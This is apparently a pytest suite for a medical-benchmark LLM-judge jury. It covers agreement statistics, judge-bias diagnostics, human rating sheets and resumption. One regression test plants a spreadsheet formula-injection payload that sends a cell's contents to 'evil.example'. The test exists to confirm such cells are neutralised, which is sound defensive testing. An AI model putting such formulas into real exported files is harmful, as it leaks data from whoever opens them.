"""A jury of judges on loopback: the combined verdict, the agreement statistics, each judge's biases
and agreement with human raters equal hand computations; failing judges are counted, never guessed;
a killed jury resumes, and a judge added later is the only one asked."""

import json
import re
import subprocess
import sys
import time
from contextlib import ExitStack
from dataclasses import replace
from pathlib import Path

import pytest

from medbench.cli.main import main
from medbench.core.errors import MedbenchError
from medbench.judge import JudgeConfig, run_judge
from tests.servers import ScriptedChat

# the answers' lengths (characters after the name): A is longer on items 1-3, B on 4-6, by gaps of
# every size the length bins hold
LEN_A = {1: 30, 2: 300, 3: 700, 4: 5, 5: 10, 6: 20}
LEN_B = {1: 5, 2: 40, 3: 100, 4: 80, 5: 400, 6: 650}
# the human raters' labels (A's side): r1's, and r2 who differs on item 6 only
HUMAN = {1: "win", 2: "win", 3: "tie", 4: "loss", 5: "loss", 6: "tie"}
WORD = {"win": "Win", "loss": "Lose", "tie": "Tie"}
FLIP = {"win": "loss", "loss": "win", "tie": "tie"}
DIM = "professionalism_fluency"


def _runs(root: Path) -> list[str]:
    runs = []
    for name, lengths in (("run-a", LEN_A), ("run-b", LEN_B)):
        folder = root / name
        (folder / "samples").mkdir(parents=True)
        (folder / "config.json").write_text(json.dumps({"model": f"/models/{name}"}), encoding="utf-8")
        lines = [
            json.dumps({"id": str(i), "question": f"问题{i}", "raw": f"{name[-1].upper()}{i}答" + "长" * n})
            for i, n in lengths.items()
        ]
        (folder / "samples" / "huatuo26m.jsonl").write_text("\n".join(lines) + "\n", encoding="utf-8")
        runs.append(str(folder))
    return runs


def _seats(prompt: str) -> tuple[str, str]:
    return re.search(r"Answer1:(\S+)", prompt).group(1), re.search(r"Answer2:(\S+)", prompt).group(1)


def longer(prompt: str) -> str:
    """Prefers the longer answer, in either seat."""
    first, second = _seats(prompt)
    return "Win" if len(first) > len(second) else "Lose"


def first_seat(prompt: str) -> str:
    """Always picks answer 1."""
    return "Win"


def humanlike(prompt: str) -> str:
    """Agrees with the humans' label, in either seat."""
    first, _ = _seats(prompt)
    verdict = HUMAN[int(first[1])]
    return WORD[verdict if first.startswith("A") else FLIP[verdict]]


def _serve(stack: ExitStack, reply, **kw) -> tuple[ScriptedChat, str]:
    script = ScriptedChat(kw.pop("rules", []), reply=reply, **kw)
    return script, stack.enter_context(script.serving())


def _config(runs, judges, tmp_path, **kw) -> JudgeConfig:
    return JudgeConfig(
        runs=runs,
        rubric="iimedgpt_pf",
        judges=judges,
        lang="en",
        max_retries=1,
        output=str(tmp_path / "out"),
        **kw,
    )


def _ratings(path: Path) -> str:
    rows = ["id,dimension,verdict,rater"]
    rows += [f"{i},{DIM},{v},r1" for i, v in HUMAN.items()]
    rows += [f"{i},{DIM},{'win' if i == 6 else v},r2" for i, v in HUMAN.items()]
    path.write_text("\n".join(rows) + "\n", encoding="utf-8")
    return str(path)


def test_three_scripted_judges_agree_and_err_as_computed_by_hand(tmp_path):
    runs = _runs(tmp_path)
    with ExitStack() as stack:
        urls = {name: _serve(stack, reply)[1] for name, reply in
                (("longer", longer), ("first", first_seat), ("human", humanlike))}  # fmt: skip
        judges = [f"{name}={name}-model@{url}" for name, url in urls.items()]
        config = _config(runs, judges, tmp_path, human=_ratings(tmp_path / "ratings.csv"))
        folder, summary = run_judge(config)
    # per item (A's side): longer w w w l l l; first-seat: tie everywhere (each order picks seat 1);
    # human-like: w w t l l t. Majority: w w t l l t -- the jury says what the humans say
    jury = summary["dimensions"][DIM]
    assert jury["judged"] == 6 and jury["rates"] == {"win": 2 / 6, "tie": 2 / 6, "loss": 2 / 6}
    verdicts = {v["id"]: v["final"] for v in map(json.loads, (folder.path / "verdicts.jsonl").open())}
    assert verdicts == {str(i): v for i, v in HUMAN.items()}
    judged = {n: j["dimensions"][DIM] for n, j in summary["judges"].items()}
    assert judged["first"]["rates"]["tie"] == 1.0 and judged["first"]["position_consistency"] == 0.0
    assert judged["longer"]["rates"] == {"win": 0.5, "tie": 0.0, "loss": 0.5}
    assert all(j["usage"]["requests"] == 12 for j in summary["judges"].values())

    agree = summary["agreement"][DIM]
    # Cohen: longer vs human agree on 4 of 6, expected 1/3 -> (2/3 - 1/3) / (2/3) = 0.5;
    # first-seat says tie only: observed = expected = 1/3 (vs human), 0 = 0 (vs longer) -> 0
    assert agree["cohen"]["longer vs human"]["value"] == pytest.approx(0.5)
    assert agree["cohen"]["longer vs first"]["value"] == pytest.approx(0.0)
    assert agree["cohen"]["first vs human"]["value"] == pytest.approx(0.0)
    # every item split 2-1 -> P_i = 1/3; category shares 5/18, 8/18, 5/18 -> P_e = 114/324;
    # Fleiss = (108 - 114) / (324 - 114) = -1/35. Krippendorff (nominal): coincidences o_ww = o_tt =
    # o_ll = 2, o_wt = o_tw = o_lt = o_tl = 3; D_o = 12/18, D_e = 210/306 -> alpha = 1 - 3672/3780 = 1/35
    assert agree["fleiss"]["value"] == pytest.approx(-1 / 35)
    assert agree["alpha"]["value"] == pytest.approx(1 / 35) and agree["alpha"]["level"] == "nominal"
    assert agree["alpha"]["n"] == 6 and len(agree["alpha"]["ci95"]) == 2

    bias = {n: d["dimensions"][DIM] for n, d in summary["diagnostics"].items()}
    assert bias["longer"]["longer_win_rate"] == 1.0
    low, high = bias["longer"]["length_slope_ci95"]
    assert bias["longer"]["length_slope_per_100_chars"] > 0 and 0 < low <= high
    assert bias["first"]["first_position_win_rate"] == 1.0 and bias["first"]["order_flip_rate"] == 1.0
    assert bias["first"]["length_slope_per_100_chars"] is None  # one outcome only: no slope to fit
    assert set(bias["longer"]["length_bins"]) == {"0-49", "50-199", "200-499", "500+"}
    assert bias["human"]["order_flip_rate"] == 0.0

    human = summary["human"]["dimensions"][DIM]
    assert human["raters"] == ["r1", "r2"] and human["raters_split"] == 1  # item 6: tie vs win
    # r1 vs r2: agree on 5 of 6; expected (2*3 + 2*1 + 2*2) / 36 = 1/3 -> (5/6 - 1/3) / (2/3) = 0.75
    assert human["inter_rater"]["cohen"]["r1 vs r2"]["value"] == pytest.approx(0.75)
    assert human["judges"]["human"]["accuracy"] == 1.0 and human["judges"]["human"]["n"] == 5
    assert human["judges"]["human"]["kappa"]["value"] == pytest.approx(1.0)
    assert human["judges"]["jury"]["accuracy"] == 1.0
    # longer vs the humans' label on items 1-5: w w t l l against w w w l l -> 4/5 right
    assert human["judges"]["longer"]["accuracy"] == pytest.approx(0.8)
    assert human["judges"]["longer"]["confusion"]["tie"] == {"win": 1, "tie": 0, "loss": 0}

    assert summary["disagreements_total"] == 6  # first-seat's tie disagrees with every decisive verdict
    shown = summary["disagreements"][0]
    assert set(shown["judges"]) == {"longer", "first", "human"} and shown["answer_a"].startswith("A1答")
    assert all(len(j["replies"]) == 2 for j in shown["judges"].values())
    table = (folder.path / "results.md").read_text(encoding="utf-8")
    for text in ("a jury of 3 judges, majority verdict", "Krippendorff's alpha (nominal)", "Judge biases"):
        assert text in table


def test_a_self_judging_model_is_flagged(tmp_path):
    runs = _runs(tmp_path)
    with ExitStack() as stack:
        _, url = _serve(stack, humanlike)
        _, other = _serve(stack, longer)
        judges = [f"self=/elsewhere/run-a@{url}", f"kin=qwen-72b@{other},family=run-b"]
        summary = run_judge(_config(runs, judges, tmp_path))[1]
    flags = {n: d["self_preference"] for n, d in summary["diagnostics"].items()}
    assert flags["self"]["model"] == "a" and "is the judged model run-a" in flags["self"]["why"]
    assert flags["kin"]["model"] == "b" and "family 'run-b'" in flags["kin"]["why"]
    # self (human-like) favours A on 2 of 6 items; the other judge (longer) on 3 of 6
    assert flags["self"]["its_rate"] == pytest.approx(2 / 6) and flags["self"]["others_rate"] == 0.5


def test_too_few_valid_verdicts_exclude_and_count_the_item_and_the_exit_status_says_so(tmp_path, capsys):
    runs = _runs(tmp_path)
    with ExitStack() as stack:
        failing, bad = _serve(stack, longer, rules=[("", "500")])
        _, good = _serve(stack, longer)
        args = ["judge", "--runs", *runs, "--rubric", "iimedgpt_pf", "--lang", "en", "--max-retries", "0"]
        args += ["--judge", f"good=g@{good}", "--judge", f"down=d@{bad}", "--min-valid-judges", "2"]
        status = main([*args, "--output", str(tmp_path / "out")])
    assert status == 3
    err = capsys.readouterr().err
    assert "judge incomplete: judge down: 12 failed request(s)" in err
    assert "6 item-dimension(s) with fewer than 2 valid verdicts, excluded" in err
    summary = json.loads(next((tmp_path / "out").glob("*judge-*/summary.json")).read_text())
    jury = summary["dimensions"][DIM]
    assert jury["judged"] == 0 and jury["too_few_judges"] == 6 and jury["rates"]["win"] is None
    assert summary["judges"]["good"]["dimensions"][DIM]["judged"] == 6
    assert summary["judges"]["down"]["dimensions"][DIM]["request_errors"] == 6
    assert failing.total >= 12


def test_a_juror_that_never_gives_a_readable_verdict_is_said_and_the_jury_rests_on_the_rest(tmp_path, capsys):
    """Issue 36: a jury whose second judge never gave a readable verdict reported "a jury of 2 judges,
    unanimous verdict" resting on one, exit 0."""
    runs = _runs(tmp_path)
    with ExitStack() as stack:
        _, good = _serve(stack, longer)
        _, mute = _serve(stack, lambda prompt: "Both answers have merit.")
        args = [
            "judge",
            "--runs",
            *runs,
            "--rubric",
            "iimedgpt_pf",
            "--lang",
            "en",
            "--aggregate",
            "unanimous",
        ]
        args += ["--judge", f"good=g@{good}", "--judge", f"mute=m@{mute}", "--output", str(tmp_path / "out")]
        status = main(args)
    assert status == 3
    assert (
        f"judge incomplete: judge mute gave no readable verdict on {DIM} (6 asked" in capsys.readouterr().err
    )
    folder = next((tmp_path / "out").glob("*judge-*/summary.json")).parent
    summary = json.loads((folder / "summary.json").read_text())
    assert summary["warnings"][0].startswith(f"judge mute: verdicts unreadable: 100% on {DIM} (6 of 6 items")
    assert "the jury's verdicts there rest on the other judges" in summary["warnings"][0]
    header = (folder / "results.md").read_text(encoding="utf-8").split("\n\n")[1].splitlines()[0]
    assert header.endswith(
        "a jury of 2 judges, unanimous verdict, resting on 1 (mute gave no readable verdict)"
    )


@pytest.mark.parametrize(
    ("spec", "message"),
    [
        ("nomodel", "expected NAME=MODEL@URL"),
        ("../x=m@http://127.0.0.1:9/v1", "must be 1-40 letters"),
        ("a" * 300 + "=m@http://127.0.0.1:9/v1", "must be 1-40 letters"),
        ("j=m@http://127.0.0.1:9/v1,concurrency=0", "concurrency must be a whole number"),
        ("j=m@http://127.0.0.1:9/v1,colour=red", "unknown option 'colour'"),
        ("j=m@http://127.0.0.1:9/v1,key_env=lower case", "key_env must be an environment variable"),
    ],
)
def test_a_bad_judge_spec_is_one_line(tmp_path, spec, message):
    with pytest.raises(MedbenchError, match=re.escape(message)):
        run_judge(_config(_runs(tmp_path), [spec], tmp_path))


def test_two_judges_of_one_name_or_more_valid_verdicts_than_judges_are_refused(tmp_path):
    runs = _runs(tmp_path)
    with pytest.raises(MedbenchError, match="two judges are named 'j'"):
        run_judge(_config(runs, ["j=a@http://127.0.0.1:9/v1", "j=b@http://127.0.0.1:9/v1"], tmp_path))
    with pytest.raises(MedbenchError, match="--min-valid-judges 3 is more than the jury's 2"):
        judges = ["j=a@http://127.0.0.1:9/v1", "k=b@http://127.0.0.1:9/v1"]
        run_judge(_config(runs, judges, tmp_path, min_valid_judges=3))


@pytest.mark.parametrize(
    ("first", "second"),
    [
        ("http://127.0.0.1:8000/v1", "http://localhost:8000/v1"),
        ("http://localhost:8000/v1/", "http://LOCALHOST:8000/v1"),
        ("http://[::1]:8000/v1", "http://127.0.0.1:8000/v1"),
        ("https://api.example.org/v1", "https://API.example.org:443/v1/"),
    ],
)
def test_one_judge_server_named_two_ways_sits_once_in_a_jury(tmp_path, first, second):
    """Issue 36: the same server as 127.0.0.1 and as localhost sat twice in a jury (its verdicts
    counted twice, its agreement with itself reported as the jury's)."""
    with pytest.raises(MedbenchError, match="two judges are the same model 'm' at "):
        run_judge(_config(_runs(tmp_path), [f"a=m@{first}", f"b=m@{second}"], tmp_path))


def test_a_killed_jury_resumes_and_a_fourth_judge_is_the_only_one_asked(tmp_path):
    runs = _runs(tmp_path)
    with ExitStack() as stack:
        served = {n: _serve(stack, r, delay=0.2) for n, r in
                  (("longer", longer), ("first", first_seat), ("human", humanlike))}  # fmt: skip
        judges = [f"{n}={n}-model@{url},concurrency=1" for n, (_, url) in served.items()]
        cmd = [sys.executable, "-m", "medbench", "judge", "--runs", *runs, "--rubric", "iimedgpt_pf"]
        cmd += ["--lang", "en", "--output", str(tmp_path / "out")]
        cmd += [x for j in judges for x in ("--judge", j)]
        proc = subprocess.Popen(cmd, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        deadline = time.time() + 120
        while sum(s.total for s, _ in served.values()) < 12 and time.time() < deadline:
            time.sleep(0.05)
        proc.kill()
        proc.wait()
        before = {n: s.total for n, (s, _) in served.items()}
        assert 0 < sum(before.values()) < 36
        summary = run_judge(_config(runs, judges, tmp_path))[1]
        asked = {n: s.total - before[n] for n, (s, _) in served.items()}
        finished = summary["usage"]["cached"]
        assert sum(asked.values()) == 36 - finished == summary["usage"]["requests"]  # nothing asked twice
        assert all(before[n] + asked[n] >= 12 for n in served)

        fourth, url = _serve(stack, humanlike)
        summary = run_judge(_config(runs, [*judges, f"late=late-model@{url}"], tmp_path))[1]
        assert all(s.total == before[n] + asked[n] for n, (s, _) in served.items())  # none asked again
        assert fourth.total == 12 and summary["usage"]["requests"] == 12 and summary["usage"]["cached"] == 36
        assert summary["judges"]["late"]["usage"]["requests"] == 12


def test_human_sheet_hides_the_models_records_the_seats_and_reads_back(tmp_path, capsys):
    runs = _runs(tmp_path)
    out = tmp_path / "sheets"
    args = ["judge", "--human-template", *runs, "--rubric", "iimedgpt_pf", "--output", str(out)]
    assert main(args) == 0
    sheet = out / "human-iimedgpt_pf-huatuo26m.csv"
    text = sheet.read_text(encoding="utf-8-sig")
    assert "run-a" not in text and "run-b" not in text
    key = json.loads((out / "human-iimedgpt_pf-huatuo26m.key.json").read_text())
    assert key["runs"] == ["run-a", "run-b"] and set(key["a_first"]) == {str(i) for i in HUMAN}
    assert len(set(key["a_first"].values())) == 2  # seats drawn: both orders occur
    assert main(args) == 2 and "exists (it may hold ratings)" in capsys.readouterr().err  # never overwritten

    import csv

    rows = list(csv.DictReader(text.splitlines()))
    for row in rows:  # a rater who agrees with HUMAN, writing seats as the sheet shows them
        verdict = HUMAN[int(row["id"])]
        seat_verdict = verdict if key["a_first"][row["id"]] else FLIP[verdict]
        row["verdict"], row["rater"] = {"win": "1", "loss": "2", "tie": "tie"}[seat_verdict], "r1"
    with open(sheet, "w", encoding="utf-8", newline="") as fh:
        writer = csv.DictWriter(fh, fieldnames=list(rows[0]))
        writer.writeheader()
        writer.writerows(rows)
    with ExitStack() as stack:
        _, url = _serve(stack, humanlike)
        summary = run_judge(_config(runs, [f"h=h@{url}"], tmp_path, human=str(sheet)))[1]
    assert summary["human"]["dimensions"][DIM]["judges"]["h"]["accuracy"] == 1.0

    key_file = out / "human-iimedgpt_pf-huatuo26m.key.json"
    key_file.rename(tmp_path / "elsewhere.json")
    with pytest.raises(MedbenchError, match=r"its key file .*key.json .* must lie beside it"):
        run_judge(_config(runs, ["h=h@http://127.0.0.1:9/v1"], tmp_path, human=str(sheet)))


def _fill_template(runs: list[str], out: Path, words: dict[str, str]) -> Path:
    """Write the human sheet for two runs and fill it as a rater who agrees with HUMAN would, in the
    seats the sheet shows (``words``: answer 1's outcome -> what the rater writes)."""
    import csv

    assert main(["judge", "--human-template", *runs, "--rubric", "iimedgpt_pf", "--output", str(out)]) == 0
    sheet = out / "human-iimedgpt_pf-huatuo26m.csv"
    seats = json.loads((out / "human-iimedgpt_pf-huatuo26m.key.json").read_text())["a_first"]
    rows = list(csv.DictReader(sheet.read_text(encoding="utf-8-sig").splitlines()))
    for row in rows:
        verdict = HUMAN[int(row["id"])]
        row["verdict"], row["rater"] = words[verdict if seats[row["id"]] else FLIP[verdict]], "r1"
    with open(sheet, "w", encoding="utf-8", newline="") as fh:
        writer = csv.DictWriter(fh, fieldnames=list(rows[0]))
        writer.writeheader()
        writer.writerows(rows)
    return sheet


def test_win_and_loss_words_on_the_human_sheet_are_read_in_its_seats(tmp_path):
    """Issue 36: a rater of the sheet sees answer 1 and answer 2, never run A: "win" there is answer
    1's win. It was read from run A's side, seats ignored (agreement 33% instead of 100%)."""
    runs = _runs(tmp_path)
    sheet = _fill_template(runs, tmp_path / "sheets", {"win": "win", "loss": "LOSS", "tie": "tie"})
    with ExitStack() as stack:
        _, url = _serve(stack, humanlike)
        summary = run_judge(_config(runs, [f"h=h@{url}"], tmp_path, human=str(sheet)))[1]
    assert summary["human"]["dimensions"][DIM]["judges"]["h"]["accuracy"] == 1.0


def test_the_human_sheet_never_holds_a_cell_a_spreadsheet_would_run(tmp_path):
    """Issue 36: the sheet held model answers raw (``=HYPERLINK(...)`` runs when opened); its cells
    are prefixed as the report CSVs' are, and the sheet still reads back."""
    runs = _runs(tmp_path)
    samples = Path(runs[0]) / "samples" / "huatuo26m.jsonl"
    records = [json.loads(x) for x in samples.read_text(encoding="utf-8").splitlines()]
    records[0]["raw"] = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    records[1]["question"] = "+1 发热三天"
    samples.write_text("".join(json.dumps(r, ensure_ascii=False) + "\n" for r in records), encoding="utf-8")
    sheet = _fill_template(runs, tmp_path / "sheets", {"win": "1", "loss": "2", "tie": "tie"})
    import csv

    cells = [c for row in csv.reader(sheet.read_text(encoding="utf-8-sig").splitlines()) for c in row]
    assert "'" + records[0]["raw"] in cells and "'+1 发热三天" in cells
    assert not any(c.startswith(("=", "+", "-", "@")) for c in cells)
    with ExitStack() as stack:
        _, url = _serve(stack, first_seat)
        summary = run_judge(_config(runs, [f"h=h@{url}"], tmp_path, human=str(sheet)))[1]
    assert summary["human"]["dimensions"][DIM]["judges"]["h"]["n"] == 6


@pytest.mark.parametrize(
    ("rows", "message"),
    [
        ("id,dimension,verdict\n1,professionalism_fluency,win\n", "no column rater"),
        ("id,dimension,verdict,rater\n1,safety,win,r1\n", ":2: field 'dimension' 'safety' is not one of"),
        ("id,dimension,verdict,rater\n1,professionalism_fluency,best,r1\n", ":2: field 'verdict' must be"),
        ("id,dimension,verdict,rater\n1,professionalism_fluency,win,\n", ":2: field 'rater' is empty"),
        ("id,dimension,verdict,rater\n1,professionalism_fluency,win,r1\n1,professionalism_fluency,tie,r1\n",
         ":3: rater 'r1' rated item '1' on professionalism_fluency twice"),
        ("id,dimension,verdict,rater\n" + "x" * 300 + ",professionalism_fluency,win,r1\n", "300 characters"),
    ],
)  # fmt: skip
def test_a_bad_human_sheet_is_one_line_before_any_request(tmp_path, rows, message):
    sheet = tmp_path / "ratings.csv"
    sheet.write_text(rows, encoding="utf-8")
    script = ScriptedChat([], reply=longer)
    with script.serving() as url, pytest.raises(MedbenchError, match=re.escape(message)):
        run_judge(_config(_runs(tmp_path), [f"j=j@{url}"], tmp_path, human=str(sheet)))
    assert script.total == 0


def _plain_runs(root: Path, names: str) -> list[str]:
    """Runs whose answer to item i is '<name>答<i>' (one short word: the judges read the name)."""
    runs = []
    for name in names:
        folder = root / f"run-{name}"
        (folder / "samples").mkdir(parents=True)
        (folder / "config.json").write_text("{}", encoding="utf-8")
        lines = [
            json.dumps({"id": str(i), "question": f"问题{i}", "raw": f"{name}答{i}"}) for i in range(1, 6)
        ]
        (folder / "samples" / "huatuo26m.jsonl").write_text("\n".join(lines) + "\n", encoding="utf-8")
        runs.append(str(folder))
    return runs


def test_the_arena_ranks_on_the_jurys_verdicts(tmp_path):
    from medbench.judge.arena import run_arena

    runs = _plain_runs(tmp_path, "ABC")
    strength = {"A": 3, "B": 2, "C": 1}

    def prefer(order):
        def reply(prompt):
            first, second = (x[0] for x in re.findall(r"Answer[12]:(\S+)", prompt))
            return "Win" if order * strength[first] > order * strength[second] else "Lose"

        return reply

    with ExitStack() as stack:
        judges = [f"{n}={n}@{_serve(stack, prefer(o))[1]}" for n, o in (("p", 1), ("q", 1), ("contrary", -1))]
        summary = run_arena(_config(runs, judges, tmp_path), bootstrap=50)[1]
        alone = run_arena(_config(runs, judges[2:], tmp_path), bootstrap=50)[1]  # the contrary judge alone
    assert [r["model"] for r in summary["ranking"]] == ["run-A", "run-B", "run-C"]  # 2 of 3 judges
    assert [r["model"] for r in alone["ranking"]] == ["run-C", "run-B", "run-A"]
    # every resample of a pair's games is the same (one side always wins): no interval, one shared rank
    assert [r["rank"] for r in summary["ranking"]] == [1, 1, 1]
    assert all(r["ci95"] is None or r["ci95"][0] <= r["rating"] <= r["ci95"][1] for r in summary["ranking"])
    with pytest.raises(MedbenchError, match="--human is for medbench judge"):
        run_arena(_config(runs, judges, tmp_path, human=str(tmp_path / "r.csv")))


def test_a_pointwise_jury_combines_scores_and_agrees_on_an_ordinal_scale(tmp_path):
    runs = _plain_runs(tmp_path, "AB")

    def rater(scores):
        return lambda prompt: str(scores[re.search(r"Answer to rate: (\S)", prompt).group(1)])

    with ExitStack() as stack:
        judges = [f"high=h@{_serve(stack, rater({'A': 3, 'B': 1}))[1]}"]
        judges += [f"flat=f@{_serve(stack, rater({'A': 2, 'B': 2}))[1]}"]
        kw = dict(rubric="chimed_rubric")
        mean = run_judge(replace(_config(runs, judges, tmp_path, aggregate="mean"), **kw))[1]
        unanimous = run_judge(replace(_config(runs, judges, tmp_path, aggregate="unanimous"), **kw))[1]
    d = mean["dimensions"]["fluency"]
    assert d["mean_score"] == {"a": 2.5, "b": 1.5} and d["rates"]["win"] == 1.0 and d["judged"] == 5
    assert mean["judges"]["flat"]["dimensions"]["fluency"]["rates"]["tie"] == 1.0
    assert mean["agreement"]["fluency"]["alpha"]["level"] == "ordinal"
    # the two judges never give one score to an answer: a unanimous jury has none (counted, excluded)
    u = unanimous["dimensions"]["fluency"]
    assert u["judged"] == 0 and u["jury_split"] == 5
    assert mean["usage"]["cached"] == 0 and unanimous["usage"]["requests"] == 0  # the same judges: cached


@pytest.mark.parametrize(
    "edit",
    [
        lambda s: s["diagnostics"]["longer"]["dimensions"][DIM]["length_bins"]["0-49"].update(n=0),
        lambda s: s["agreement"][DIM]["cohen"].update({"longer vs first": {"value": "high", "n": 1}}),
        lambda s: s["disagreements"].append({"id": ["../x"], "dimension": DIM}),
        lambda s: s["judges"]["first"].update(usage=[1, 2]),
    ],
)
def test_a_received_jury_summary_of_the_wrong_shape_is_left_out_of_the_report(tmp_path, edit, capsys, caplog):
    runs = _runs(tmp_path)
    with ExitStack() as stack:
        judges = [f"longer=l@{_serve(stack, longer)[1]}", f"first=f@{_serve(stack, first_seat)[1]}"]
        folder = run_judge(_config(runs, judges, tmp_path))[0]
    path = folder.path / "summary.json"
    summary = json.loads(path.read_text(encoding="utf-8"))
    edit(summary)
    path.write_text(json.dumps(summary), encoding="utf-8")
    capsys.readouterr()
    assert main(["report", str(tmp_path / "out"), "--out", str(tmp_path / "site")]) in (0, 2)
    assert "Traceback" not in capsys.readouterr().err
    assert f"skipping {folder.path}: {path}: field " in caplog.text  # the folder left out, in one line


def test_each_judge_sends_its_own_key_and_a_missing_key_variable_is_one_line(tmp_path, monkeypatch):
    runs = _runs(tmp_path)
    monkeypatch.setenv("JUDGE_ONE_KEY", "sk-one")
    monkeypatch.delenv("OPENAI_API_KEY", raising=False)
    with ExitStack() as stack:
        one, url_one = _serve(stack, longer)
        other, url_other = _serve(stack, longer)
        judges = [f"one=m@{url_one},key_env=JUDGE_ONE_KEY", f"other=n@{url_other}"]
        run_judge(_config(runs, judges, tmp_path))
        with pytest.raises(MedbenchError, match="judge late: its key variable JUDGE_UNSET_KEY is not set"):
            run_judge(_config(runs, [*judges, f"late=k@{url_other},key_env=JUDGE_UNSET_KEY"], tmp_path))

    def keys(script):
        return {v for h in script.seen_headers for k, v in h.items() if k.lower() == "authorization"}

    assert keys(one) == {"Bearer sk-one"} and "Bearer sk-one" not in keys(other)
